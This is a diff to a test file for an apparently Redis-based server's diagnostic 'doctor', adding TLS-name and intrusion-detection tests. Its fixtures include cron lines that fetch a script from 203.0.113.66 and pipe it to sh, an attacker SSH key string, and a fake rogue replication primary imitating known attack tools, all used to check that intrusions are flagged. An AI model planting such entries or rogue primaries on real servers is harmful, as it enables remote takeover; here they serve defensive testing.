@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import shutil
+import signal
 import socket
 import subprocess
 import threading
@@ -15,8 +16,9 @@ import pytest
 
 from redkeep.run.pki import Pki, certificate_names
 from redkeep.run.vault import Vault
-from tests.live.deployments import FOR_OTHERS
+from tests.live.deployments import FOR_OTHERS, replicated
 from tests.live.doctor import doctor
+from tests.live.pretenders import pretending
 from tests.live.public import PUBLIC, in_public_network, needs_network
 from tests.live.servers import Binary, available, free_port, running, until
 
@@ -268,6 +270,24 @@ def test_tls_mismatch_of_a_name(binary: Binary, tmp_path: Path) -> None:
     in_public_network(body)
 
 
+@needs_network
+@with_tls
+def test_tls_of_an_address_that_only_the_doctor_was_given(binary: Binary, tmp_path: Path) -> None:
+    """Clients are given the name in the certificate, whatever this look was given."""
+
+    def body() -> None:
+        files = tls_files(tmp_path, "a.example")
+        given = "cluster-enabled yes\ncluster-announce-hostname a.example\ncluster-preferred-endpoint-type hostname\n"
+        text = f"{files}{given}bind 127.0.0.1 {PUBLIC}\nprotected-mode no\ntls-cluster yes\n"
+        with running(binary, tmp_path, text, tls=True) as server:
+            server.defaults = {"ssl": True, "ssl_cert_reqs": "none"}
+            server.client().execute_command("CLUSTER", "ADDSLOTS", *range(16384))
+            target = f"rediss://{PUBLIC}:{server.port}"
+            assert not doctor(target, ca=tmp_path / "ca.crt").of("tls-mismatch")
+
+    in_public_network(body)
+
+
 @with_tls
 @pytest.mark.parametrize(
     ("age", "severity", "words"), [(350, "warning", "ends on"), (400, "error", "ended on")]
@@ -289,7 +309,13 @@ CRON = "\n\n\n*/2 * * * * root cd1 -fsSL http://203.0.113.66/ap.sh | sh\n\n"
 SSH_KEY = f"\n\nssh-rsa AAAA{'B3NzaC1yc2EAAAADAQABAAABAQC' * 4} root@kali\n\n"
 
 
-@pytest.mark.parametrize(("key", "value", "what"), [("backup1", CRON, "cron"), ("crackit", SSH_KEY, "SSH")])
+AT_BOOT = "\n\n@reboot curl -fsSL http://203.0.113.66/ap.sh | sh\n\n"
+
+
+@pytest.mark.parametrize(
+    ("key", "value", "what"),
+    [("backup1", CRON, "cron"), ("jobs:7", AT_BOOT, "cron"), ("crackit", SSH_KEY, "SSH")],
+)
 def test_intrusion_in_the_data(binary: Binary, tmp_path: Path, key: str, value: str, what: str) -> None:
     with running(binary, tmp_path) as server:
         server.client().set(key, value)
@@ -342,6 +368,34 @@ def test_intrusion_by_a_module(binary: Binary, tmp_path: Path) -> None:
         assert not doctor(server).of("signs-of-intrusion")
 
 
+def test_intrusion_by_a_rogue_primary_that_answers_ping(binary: Binary, tmp_path: Path) -> None:
+    """As the tools of the known attacks do, which know PING, REPLCONF and PSYNC."""
+
+    def answer(data: bytes) -> bytes | None:
+        known = {
+            b"PING": b"+PONG\r\n",
+            b"REPLCONF": b"+OK\r\n",
+            b"PSYNC": b"+FULLRESYNC " + b"Z" * 40 + b" 1\r\n",
+        }
+        return next((reply for word, reply in known.items() if word in data), None)
+
+    with running(binary, tmp_path) as server, pretending(answer) as rogue:
+        server.client().replicaof("127.0.0.1", rogue.port)
+        found = doctor(server).only("signs-of-intrusion")
+        assert f"it replicates from 127.0.0.1:{rogue.port}" in found.evidence
+        server.client().replicaof("NO", "ONE")
+        assert not doctor(server).of("signs-of-intrusion")
+
+
+def test_a_primary_that_hangs_is_no_intruder(binary: Binary, tmp_path: Path) -> None:
+    with replicated(binary, tmp_path) as (primary, replica):
+        primary.process.send_signal(signal.SIGSTOP)
+        try:
+            assert not doctor(replica).of("signs-of-intrusion")
+        finally:
+            primary.process.send_signal(signal.SIGCONT)
+
+
 def test_intrusion_by_a_rogue_primary(binary: Binary, tmp_path: Path) -> None:
     with running(binary, tmp_path) as server, rogue_primary() as port:
         server.client().replicaof("127.0.0.1", port)
@@ -383,6 +437,8 @@ ORDINARY = {
     "page:1": "<p>To install, run: curl -fsSL https://example.com/install.sh | sh</p>",
     "script": "#!/bin/bash\nset -e\ncurl -O https://example.com/x\n",
     "numbers": "1 2 3 4 5 6 7 8 9 10",
+    "vector": "12 0 7 255 1 nc 4\n3 1 4 1 5 sh 9\n1\n2\n3\n4\n5\nperl",
+    "log": "2026-11-30 10 20 30 40 wrote /tmp/report.csv",
     "x": "0123456789012345678901234567890123456789",
 }
 
